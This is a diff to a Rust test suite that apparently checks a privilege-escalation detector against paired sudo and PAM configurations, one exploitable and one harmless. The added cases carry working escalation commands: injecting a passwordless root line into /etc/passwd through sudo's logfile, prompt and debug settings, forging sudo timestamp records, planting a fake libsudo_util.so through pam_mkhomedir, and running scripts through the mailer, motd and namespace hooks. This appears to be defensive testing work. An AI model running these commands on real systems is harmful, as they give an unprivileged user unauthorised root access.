@@ -60,7 +60,7 @@ struct Parts {
 impl Parts {
     fn new(store: &Store) -> Self {
         let directory = tempfile::tempdir().unwrap();
-        for package in ["sudo", "libnss-db", "passwd"] {
+        for package in ["sudo", "libnss-db", "passwd", "libpam-cap"] {
             let place = directory.path();
             process::run(
                 Command::new("apt-get")
@@ -155,7 +155,13 @@ impl Parts {
             0o644,
             fs::read(module).unwrap(),
         );
-        for package in ["sudo", "libnss-db", "passwd"] {
+        let module = self.path("libpam-cap/lib/x86_64-linux-gnu/security/pam_cap.so");
+        layer = layer.file(
+            &format!("{LIBRARIES}/security/pam_cap.so"),
+            0o644,
+            fs::read(module).unwrap(),
+        );
+        for package in ["sudo", "libnss-db", "passwd", "libpam-cap"] {
             let list = fs::read(self.path(&format!("{package}.control/md5sums"))).unwrap();
             layer = layer.file(&format!("var/lib/dpkg/info/{package}.md5sums"), 0o644, list);
         }
@@ -193,6 +199,36 @@ impl Parts {
         process::run(
             Command::new("cc")
                 .args(["-shared", "-fPIC", "-nostartfiles", "-O1"])
+                .arg(format!("-Wl,-soname,{soname}"))
+                .arg("-o")
+                .arg(&target)
+                .arg(&source),
+        );
+        fs::read(target).unwrap()
+    }
+
+    /// As [`Self::own`], for sudo's own library: with all names that sudo takes from it.
+    fn standing_in(&self) -> Vec<u8> {
+        let soname = "libsudo_util.so.0";
+        let names = Command::new("nm")
+            .args(["-D", "--undefined-only", "--format=posix"])
+            .arg(self.path("sudo/usr/bin/sudo"))
+            .output()
+            .unwrap()
+            .stdout;
+        let names = String::from_utf8(names).unwrap();
+        let names: String = names
+            .lines()
+            .filter_map(|line| line.split([' ', '@']).next())
+            .filter(|name| name.starts_with("sudo") || name.starts_with("initprogname"))
+            .fold(String::new(), |text, name| {
+                format!("{text}void {name}() {{}}\n")
+            });
+        let (source, target) = (self.path("standing.c"), self.path(soname));
+        fs::write(&source, format!("{OWN}{names}")).unwrap();
+        process::run(
+            Command::new("cc")
+                .args(["-shared", "-fPIC", "-nostartfiles", "-O1", "-fno-builtin"])
                 .arg(format!("-Wl,-soname,{soname}"))
                 .arg("-o")
                 .arg(&target)
@@ -767,6 +803,166 @@ fn of_sudo(parts: &Parts) -> Vec<Case> {
     ]
 }
 
+/// sudo writes an account of root's into passwd: what it breaks off, or repeats as it was given.
+const SUDO_WRITES: &str = "long=$(printf 'x%.0s' $(seq 100)); line='own::0:0::/:/bin/sh'; \
+    sudo -n -p \"$(printf 'x\\n%s\\nx' $line)\" id $long $line; su own -c 'id -u' </dev/null";
+
+/// The record of a password that was given: a lock, then one for all terminals (`struct timestamp_entry`).
+const SUDO_RECORD: &str = "mkdir -m 700 /tmp/ts; python3 -c 'import os, struct, time\n\
+def entry(kind): return struct.pack(\"@HHHHIiqqqqQ\", 2, 56, kind, 0, 1001, 0, 0, 0, int(time.monotonic()), 0, 0)\n\
+os.umask(0o77)\n\
+for name in [\"app\", \"1001\"]: open(\"/tmp/ts/\" + name, \"wb\").write(entry(4) + entry(1))'; sudo -n id -u";
+
+const SUDO_MAILS: &str = "sudo -n id -u; for at in $(seq 50); do test -s /tmp/told && break; \
+    python3 -c 'import time; time.sleep(0.1)'; done; cat /tmp/told";
+
+fn of_settings_of_sudo(_parts: &Parts) -> Vec<Case> {
+    let sudoers = |text: &str| Layer::new().file("etc/sudoers", 0o440, text);
+    let root = "root ALL=(ALL) ALL\n";
+    vec![
+        case("sudo-log", "sudo-setting", SUDO_WRITES, |way| {
+            let file = pick(way, "/etc/passwd", "/var/log/sudo.log");
+            sudoers(&format!("Defaults logfile={file},!syslog\n{root}"))
+        }),
+        case("sudo-log-of-a-user", "sudo-setting", SUDO_WRITES, |way| {
+            let file = pick(way, "/etc/passwd", "/var/log/sudo.log");
+            sudoers(&format!(
+                "Defaults:root, app !syslog, logfile = \"{file}\"\n{root}"
+            ))
+        }),
+        case(
+            "sudo-log-behind-a-link",
+            "sudo-setting",
+            SUDO_WRITES,
+            |way| {
+                let target = pick(way, "/etc/passwd", "/var/log/other");
+                let name = pick(way, "var/log/sudo.log", "var/log/unused.log");
+                sudoers(&format!(
+                    "Defaults logfile=/var/log/sudo.log,!syslog\n{root}"
+                ))
+                .symlink(name, target)
+            },
+        ),
+        case("sudo-debugging", "sudo-setting", SUDO_WRITES, |way| {
+            let comment = pick(way, "", "# ");
+            sudoers("").file(
+                "etc/sudo.conf",
+                0o644,
+                format!("{comment}Debug sudo /etc/passwd all@debug\n"),
+            )
+        }),
+        case("sudo-record", "sudo-setting", SUDO_RECORD, |way| {
+            let place = pick(way, "timestampowner=app,timestampdir=/tmp/ts,", "");
+            sudoers(&format!(
+                "Defaults {place}timestamp_type=global,timestamp_timeout=-1\napp ALL=(ALL) ALL\n"
+            ))
+        }),
+        case("sudo-mail", "library", SUDO_MAILS, |way| {
+            let name = pick(way, "usr/sbin/sendmail", "usr/sbin/sendmail-unused");
+            sudoers(root).file(name, 0o755, TELLS)
+        }),
+        case(
+            "sudo-mail-of-a-setting",
+            "sudo-setting",
+            SUDO_MAILS,
+            |way| {
+                let setting = pick(way, "mailerpath=/opt/own/tells", "!mailerpath");
+                sudoers(&format!("Defaults {setting}\n{root}")).file("opt/own/tells", 0o755, TELLS)
+            },
+        ),
+    ]
+}
+
+fn of_steps_of_sudo() -> Vec<Case> {
+    let accounts = format!("{ACCOUNTS}ops:x:1500:1500::/home/ops:/bin/bash\n");
+    let with = |app: &str, ops: &str, rules: &str| {
+        let text = format!("root:*:19000::::::\napp:{app}:19000::::::\nops:{ops}:19000::::::\n");
+        Layer::new()
+            .file("etc/passwd", 0o644, &accounts)
+            .owned("etc/shadow", 0o640, (0, 42), text)
+            .file("etc/sudoers", 0o440, rules)
+            .whiteout("usr/bin/su")
+    };
+    let by_ops = "echo 'correct horse battery' | sudo -S -u ops sudo -n id -u";
+    let rules = "app ALL=(ops) ALL\nops ALL=(ALL) NOPASSWD: ALL\n";
+    vec![
+        case("sudo-asking-for-the-target", "sudo-rule", by_ops, |way| {
+            let default = pick(way, "Defaults targetpw\n", "Defaults !targetpw\n");
+            with("!", HASH, &format!("{default}{rules}"))
+        }),
+        case("sudo-by-way-of-another", "sudo-rule", by_ops, |way| {
+            let last = pick(way, "ops ALL=(ALL) NOPASSWD: ALL\n", "ops ALL=(ALL) ALL\n");
+            with(HASH, "!", &format!("app ALL=(ops) ALL\n{last}"))
+        }),
+    ]
+}
+
+fn of_files_of_pam_modules(parts: &Parts) -> Vec<Case> {
+    const GROUPS: &str = "echo 'correct horse battery' | su app -c 'sudo -n id -u'";
+    const CAPABILITIES: &str = "echo 'correct horse battery' | \
+        su app -c \"python3 -c 'import os; os.setuid(0); print(os.getuid())'\"";
+    const HOME: &str = "echo 'correct horse battery' | \
+        su app -c 'cp /opt/own/* /usr/libexec/sudo/glibc-hwcaps/x86-64-v2/'; sudo -n id -u";
+    let su = String::from_utf8(parts.shipped("etc/pam.d/su")).unwrap();
+    let known = format!("root:*:19000::::::\napp:{HASH}:19000::::::\n");
+    let with = |line: &str| {
+        Layer::new()
+            .owned("etc/shadow", 0o640, (0, 42), &known)
+            .file("etc/pam.d/su", 0o644, format!("{line}\n{su}"))
+    };
+    let root = "root ALL=(ALL) ALL\n";
+    vec![
+        case("pam-groups", "pam", GROUPS, |way| {
+            let group = pick(way, "sudo", "audio");
+            with("auth optional pam_group.so")
+                .file(
+                    "etc/security/group.conf",
+                    0o644,
+                    format!("su;*;app;Al0000-2400;{group}\n"),
+                )
+                .file("etc/sudoers", 0o440, "%sudo ALL=(ALL) NOPASSWD: ALL\n")
+        }),
+        case("pam-capabilities", "pam", CAPABILITIES, |way| {
+            let line = pick(way, "^cap_setuid app", "none *");
+            with("auth optional pam_cap.so keepcaps defer").file(
+                "etc/security/capability.conf",
+                0o644,
+                format!("{line}\n"),
+            )
+        }),
+        case("pam-home", "pam", HOME, |way| {
+            let home = pick(way, "/usr/libexec/sudo/glibc-hwcaps/x86-64-v2", "/home/app");
+            with("session optional pam_mkhomedir.so")
+                .file("etc/passwd", 0o644, ACCOUNTS.replace("/home/app", home))
+                .file("etc/sudoers", 0o440, root)
+                .file("opt/own/libsudo_util.so.0", 0o644, parts.standing_in())
+        }),
+        case("pam-message", "pam", SU_TO_OWN, |way| {
+            let place = pick(way, "etc/update-motd.d/own", "etc/update-motd.d.own");
+            with("session optional pam_motd.so").file(place, 0o755, TELLS)
+        }),
+        case("pam-message-of-debian", "pam", SU_TO_OWN, |way| {
+            let text = pick(way, TELLS, "#!/bin/sh\nuname -snrvm\n");
+            with("session optional pam_motd.so motd=/run/motd.dynamic").file(
+                "etc/update-motd.d/10-uname",
+                0o755,
+                text,
+            )
+        }),
+        case("pam-namespaces", "pam", SU_TO_OWN, |way| {
+            let comment = pick(way, "", "# ");
+            with("session optional pam_namespace.so")
+                .dir("opt/inst", 0o0, (0, 0))
+                .file(
+                    "etc/security/namespace.conf",
+                    0o644,
+                    format!("{comment}/opt/own /opt/inst/ user root\n"),
+                )
+                .file("etc/security/namespace.init", 0o755, TELLS)
+        }),
+    ]
+}
+
 fn of_programs(parts: &Parts) -> Vec<Case> {
     let (bash, su) = (parts.shipped("usr/bin/bash"), parts.shipped("usr/bin/su"));
     let python = parts.shipped("usr/bin/python3.11");
@@ -877,6 +1073,21 @@ fn ways_through_conversions_of_character_sets_and_their_near_twins() {
 #[test]
 fn ways_through_sudo_and_their_near_twins() {
     try_all(|parts, _| of_sudo(parts));
+}
+
+#[test]
+fn ways_through_settings_of_sudo_and_their_near_twins() {
+    try_all(|parts, _| of_settings_of_sudo(parts));
+}
+
+#[test]
+fn ways_through_steps_of_sudo_and_their_near_twins() {
+    try_all(|_, _| of_steps_of_sudo());
+}
+
+#[test]
+fn ways_through_files_of_pam_modules_and_their_near_twins() {
+    try_all(|parts, _| of_files_of_pam_modules(parts));
 }
 
 #[test]
